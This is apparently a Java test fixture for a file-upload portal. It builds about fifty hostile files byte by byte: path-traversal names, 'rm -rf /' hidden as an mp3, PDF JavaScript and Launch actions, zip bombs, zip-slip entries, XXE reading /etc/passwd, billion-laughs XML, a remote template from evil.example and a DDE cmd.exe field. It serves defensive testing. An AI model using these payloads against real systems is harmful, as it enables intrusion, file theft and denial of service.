package org.reintegration.web.files;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Fifty files that nobody should open, made here byte by byte, each with what the portal may say of it. */
final class Hostile {

    /** Refused before it is a file: by its name, its size or its first bytes. */
    static final String AT_THE_DOOR = "AT_THE_DOOR";

    /** Taken and harmless here, because of how it is read and handed out. */
    static final String READY = "READY";

    /**
     * One file.
     *
     * @param announced the size that is told before the content, which is not always that of the content
     * @param ends what may come of it: a problem of the worker, refused at the door, or ready
     */
    @SuppressWarnings("ArrayRecordComponent") // Never compared.
    record Case(String what, String name, long announced, byte[] content, Set<String> ends) {}

    private static final String WORD =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private static final String SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    private static final String MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml";
    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static final String BODY = "<w:document " + W
            + "><w:body><w:p><w:r><w:t>words of the apicultrices</w:t></w:r></w:p></w:body></w:document>";
    private static final String OWN_RELATIONS =
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                    + "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";
    private static final int MEGABYTE = 1024 * 1024;

    private final List<Case> cases = new ArrayList<>();

    private Hostile() {}

    static List<Case> all() {
        Hostile hostile = new Hostile();
        hostile.names();
        hostile.types();
        hostile.pdfs();
        hostile.archives();
        hostile.documents();
        hostile.pictures();
        hostile.sounds();
        return hostile.cases;
    }

    /** The harmless file beside them: a text of one line. */
    static byte[] harmless() {
        return docx(WORD, new Part("word/document.xml", BODY));
    }

    private void names() {
        add("a name that leads out", "../../../../etc/cron.d/x", harmless(), AT_THE_DOOR);
        add("a name turned around to hide its end", "study\u202Efdp.exe", harmless(), AT_THE_DOOR);
        add("a program by name", "setup.exe", program(), AT_THE_DOOR);
        add(
                "a document with macros by name",
                "form.docm",
                docx(MACRO, new Part("word/document.xml", BODY)),
                AT_THE_DOOR);
        add("two ends, the last a script", "report.pdf.js", ascii("alert(1)"), AT_THE_DOOR);
        add("a page with a script by name", "page.html", ascii("<script>alert(1)</script>"), AT_THE_DOOR);
        add("a drawing with a script by name", "drawing.svg", svg(), AT_THE_DOOR);
        add("a plain archive", "all.zip", zip(new Part("a.txt", "a")), AT_THE_DOOR);
        add("a name of nothing but an end", ".pdf", pdf(""), AT_THE_DOOR);
        add("nothing at all", "empty.pdf", new byte[0], AT_THE_DOOR);
        cases.add(new Case("a size beyond its kind", "large.jpg", 3_000_000_000L, new byte[0], Set.of(AT_THE_DOOR)));
        cases.add(new Case("a negative size", "minus.pdf", -1, new byte[0], Set.of(AT_THE_DOOR)));
        cases.add(new Case("more bytes than were announced", "more.pdf", 10, pdf(""), Set.of(AT_THE_DOOR)));
    }

    private void types() {
        add("a program as a PDF", "invoice.pdf", program(), AT_THE_DOOR);
        add("a page as a PDF", "page.pdf", ascii("<html><script>alert(1)</script></html>"), AT_THE_DOOR);
        add(
                "a page first, a PDF behind",
                "both.pdf",
                join(ascii("<html><script>alert(1)</script>\n"), pdf("")),
                AT_THE_DOOR);
        add("a drawing with a script as a picture", "drawing.png", svg(), AT_THE_DOOR);
        add("a shell script as a recording", "song.mp3", ascii("#!/bin/sh\nrm -rf /\n"), AT_THE_DOOR);
        add("noise as a text", "noise.docx", noise(5_000), AT_THE_DOOR, "UNREADABLE");
        add("an archive of something else as a text", "other.docx", zip(new Part("a.txt", "a")), "WRONG_TYPE");
        add(
                "a spreadsheet as a text",
                "sheet.docx",
                docx(SHEET, new Part("xl/workbook.xml", "<workbook/>")),
                "WRONG_TYPE");
        add(
                "a Java archive as a spreadsheet",
                "classes.xlsx",
                zip(new Part("META-INF/MANIFEST.MF", "Main-Class: X"), new Part("X.class", "x")),
                "WRONG_TYPE");
    }

    private void pdfs() {
        add("a PDF cut in the middle", "cut.pdf", Arrays.copyOf(pdf(""), 120), "UNREADABLE", "READY");
        add("a PDF that is its first line only", "line.pdf", ascii("%PDF-1.7\n"), "UNREADABLE");
        add(
                "a PDF that runs a script",
                "script.pdf",
                pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
                "ACTIVE_CONTENT");
        add(
                "a PDF that starts a program",
                "launch.pdf",
                pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
                "ACTIVE_CONTENT");
        add(
                "a PDF that carries files",
                "carrier.pdf",
                pdf("/Names << /EmbeddedFiles << /Names [] >> >>"),
                "ACTIVE_CONTENT");
        add("a PDF whose pages are their own parents", "circle.pdf", circle(), "UNREADABLE", READY);
        add(
                "a PDF whose stream inflates a thousandfold",
                "inflating.pdf",
                inflating(),
                "UNREADABLE",
                "TOOK_TOO_LONG",
                "TOOK_TOO_MUCH_MEMORY",
                READY);
        add(
                "a PDF of brackets in brackets",
                "brackets.pdf",
                ascii("%PDF-1.7\n1 0 obj\n" + "[".repeat(300_000) + "\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"),
                "UNREADABLE",
                "READER_DIED",
                "TOOK_TOO_LONG");
        add(
                "a PDF with a page behind",
                "behind.pdf",
                join(pdf(""), ascii("\n<script>alert(1)</script>")),
                READY,
                "UNREADABLE");
        add(
                "a PDF with an archive behind",
                "archive.pdf",
                join(pdf(""), zip(new Part("a.txt", "a"))),
                READY,
                "UNREADABLE");
        add("a PDF larger than any sheet of paper", "huge.pdf", pdf("", "0 0 9999999 9999999"), READY, "UNREADABLE");
    }

    private void archives() {
        add(
                "an archive that unpacks to gigabytes",
                "flat.docx",
                docx(WORD, new Part("word/document.xml", BODY), new Part("word/media/a.bin", new byte[60 * MEGABYTE])),
                "BOMB");
        byte[] inner = zip(new Part("a.bin", new byte[200_000]));
        for (int depth = 0; depth < 12; depth++) {
            inner = zip(new Part("a.docx", inner));
        }
        add(
                "archives in archives, twelve deep",
                "nested.docx",
                docx(WORD, new Part("word/document.xml", BODY), new Part("word/embeddings/a.docx", inner)),
                "BOMB");
        Part[] many = new Part[6_000];
        for (int i = 0; i < many.length; i++) {
            many[i] = new Part("word/media/" + i, "x");
        }
        add("six thousand entries", "many.docx", docx(WORD, many), "BOMB");
        add(
                "an entry that leads out",
                "slip.docx",
                docx(WORD, new Part("word/document.xml", BODY), new Part("../../../tmp/evil.sh", "x")),
                "HOSTILE_STRUCTURE");
        add(
                "two entries that differ in case",
                "double.docx",
                docx(WORD, new Part("word/document.xml", BODY), new Part("word/Document.xml", BODY)),
                "HOSTILE_STRUCTURE");
        add("an archive cut in the middle", "cut.docx", Arrays.copyOf(harmless(), harmless().length / 2), "UNREADABLE");
        byte[] damaged = harmless();
        Arrays.fill(damaged, damaged.length - 60, damaged.length - 30, (byte) 0xff);
        add("an archive with a damaged directory", "damaged.docx", damaged, "UNREADABLE", "WRONG_TYPE");
        add(
                "another archive hidden inside",
                "rar.docx",
                docx(WORD, new Part("word/document.xml", BODY), new Part("word/media/a.png", "Rar!\u001a\u0007")),
                "HOSTILE_STRUCTURE");
    }

    private void documents() {
        add(
                "macros under another name",
                "macro.docx",
                docx(MACRO, new Part("word/document.xml", BODY), new Part("word/vbaProject.bin", "x")),
                "ACTIVE_CONTENT");
        add(
                "a program inside",
                "carrier.docx",
                docx(WORD, new Part("word/document.xml", BODY), new Part("word/media/a.png", program())),
                "ACTIVE_CONTENT");
        add(
                "an entity that reads a file of the server",
                "xxe.docx",
                docx(
                        WORD,
                        new Part(
                                "word/document.xml",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                                        + BODY.replace("words", "&e;"))),
                "HOSTILE_STRUCTURE");
        add(
                "entities that grow a billionfold",
                "laughs.docx",
                docx(WORD, new Part("word/document.xml", laughs())),
                "HOSTILE_STRUCTURE");
        add(
                "a template fetched from elsewhere",
                "template.docx",
                docx(
                        WORD,
                        new Part("word/document.xml", BODY),
                        new Part(
                                "word/_rels/settings.xml.rels",
                                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")),
                "ACTIVE_CONTENT");
        add(
                "a field that starts a program",
                "dde.docx",
                docx(
                        WORD,
                        new Part(
                                "word/document.xml",
                                BODY.replace(
                                        "<w:t>words of the apicultrices</w:t>",
                                        "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>"))),
                "ACTIVE_CONTENT");
        add(
                "elements in elements, without end",
                "deep.docx",
                docx(WORD, new Part("word/document.xml", "<w:document " + W + "><w:body>" + "<w:p>".repeat(200_000))),
                "UNREADABLE",
                "READER_DIED",
                "BOMB",
                "TOOK_TOO_LONG",
                "TOOK_TOO_MUCH_MEMORY");
        add(
                "an OpenDocument with a script",
                "script.odt",
                zip(
                        new Part("mimetype", "application/vnd.oasis.opendocument.text"),
                        new Part("content.xml", "<x/>"),
                        new Part("Basic/script-lc.xml", "<x/>")),
                "ACTIVE_CONTENT");
    }

    private void pictures() {
        add("a picture of ten billion points", "points.png", hugePng(100_000, 100_000), "TOO_LARGE");
        add("a picture cut in the middle", "cut.png", Arrays.copyOf(png(), png().length / 2), "UNREADABLE");
        add("a picture with an archive behind", "both.png", join(png(), zip(new Part("a.class", "x"))), READY);
        add(
                "a photograph that is a head only",
                "head.jpg",
                new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0},
                "UNREADABLE");
        add(
                "a picture with a script in its words",
                "words.png",
                join(png(), ascii("<script>alert(1)</script>")),
                READY);
    }

    private void sounds() {
        add("a recording of nothing", "none.mp3", ascii("ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000"), "UNREADABLE");
        add(
                "a recording that promises two gigabytes",
                "promise.wav",
                join(ascii("RIFF"), new byte[] {-1, -1, -1, 127}, ascii("WAVEfmt "), new byte[] {-1, -1, -1, 127}),
                "UNREADABLE");
    }

    private void add(String what, String name, byte[] content, String... ends) {
        cases.add(new Case(what, name, content.length, content, Set.of(ends)));
    }

    /** A part of an archive. */
    @SuppressWarnings("ArrayRecordComponent") // Never compared.
    private record Part(String name, byte[] content) {
        Part(String name, String words) {
            this(name, words.getBytes(StandardCharsets.ISO_8859_1));
        }
    }

    private static byte[] docx(String type, Part... parts) {
        List<Part> all = new ArrayList<>();
        all.add(new Part(
                "[Content_Types].xml",
                "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                        + "<Override PartName=\"/word/document.xml\" ContentType=\"" + type + "\"/></Types>"));
        all.add(new Part("_rels/.rels", OWN_RELATIONS));
        all.addAll(List.of(parts));
        return zip(all.toArray(Part[]::new));
    }

    private static byte[] zip(Part... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            for (Part part : parts) {
                zip.putNextEntry(new ZipEntry(part.name()));
                zip.write(part.content());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] pdf(String inCatalog) {
        return pdf(inCatalog, "0 0 300 300");
    }

    private static byte[] pdf(String inCatalog, String box) {
        return pdf(
                "<< /Type /Catalog /Pages 2 0 R " + inCatalog + " >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [" + box + "] >>");
    }

    private static byte[] pdf(String catalog, String pages, String page) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(ascii("%PDF-1.4\n"));
        List<Integer> starts = new ArrayList<>();
        int number = 1;
        for (String object : List.of(catalog, pages, page)) {
            starts.add(bytes.size());
            bytes.writeBytes(ascii(number++ + " 0 obj\n" + object + "\nendobj\n"));
        }
        int table = bytes.size();
        StringBuilder end = new StringBuilder("xref\n0 " + number + "\n0000000000 65535 f \n");
        starts.forEach(start -> end.append("%010d 00000 n \n".formatted(start)));
        end.append("trailer << /Size ")
                .append(number)
                .append(" /Root 1 0 R >>\nstartxref\n")
                .append(table)
                .append("\n%%EOF\n");
        bytes.writeBytes(ascii(end.toString()));
        return bytes.toByteArray();
    }

    private static byte[] circle() {
        return pdf(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 /Parent 3 0 R >>",
                "<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 9 >>");
    }

    private static byte[] inflating() {
        byte[] packed = deflated(new byte[80 * MEGABYTE]);
        String head =
                "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                        + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Filter /FlateDecode /Length "
                        + packed.length + " >>\nstream\n";
        return join(ascii(head), packed, ascii("\nendstream\nendobj\ntrailer << /Root 1 0 R /Size 5 >>\n%%EOF\n"));
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder("<!DOCTYPE x [<!ENTITY a \"ha\">");
        for (char name = 'b'; name < 'm'; name++) {
            entities.append("<!ENTITY ")
                    .append(name)
                    .append(" \"")
                    .append(("&" + (char) (name - 1) + ";").repeat(10))
                    .append("\">");
        }
        return entities.append("]>").append(BODY.replace("words", "&l;")).toString();
    }

    private static byte[] png() {
        BufferedImage image = new BufferedImage(200, 200, BufferedImage.TYPE_INT_RGB);
        for (int i = 0; i < 40_000; i++) {
            image.setRGB(i % 200, i / 200, (int) (i * 2_654_435_761L));
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, "png", bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] hugePng(int width, int height) {
        byte[] head = ByteBuffer.allocate(13)
                .putInt(width)
                .putInt(height)
                .put(new byte[] {8, 2, 0, 0, 0})
                .array();
        return join(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'},
                chunk("IHDR", head),
                chunk("IDAT", deflated(new byte[1000])),
                chunk("IEND", new byte[0]));
    }

    private static byte[] chunk(String name, byte[] content) {
        byte[] named = join(ascii(name), content);
        CRC32 sum = new CRC32();
        sum.update(named);
        return ByteBuffer.allocate(named.length + 8)
                .putInt(content.length)
                .put(named)
                .putInt((int) sum.getValue())
                .array();
    }

    private static byte[] deflated(byte[] content) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        deflater.setInput(content);
        deflater.finish();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        while (!deflater.finished()) {
            bytes.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return bytes.toByteArray();
    }

    private static byte[] program() {
        return join(ascii("MZ"), new byte[200]);
    }

    private static byte[] svg() {
        return ascii(
                "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>");
    }

    private static byte[] noise(int length) {
        byte[] noise = new byte[length];
        for (int i = 0; i < length; i++) {
            noise[i] = (byte) ((i * 2_654_435_761L) >>> 13);
        }
        return noise;
    }

    private static byte[] ascii(String words) {
        return words.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            bytes.writeBytes(part);
        }
        return bytes.toByteArray();
    }
}
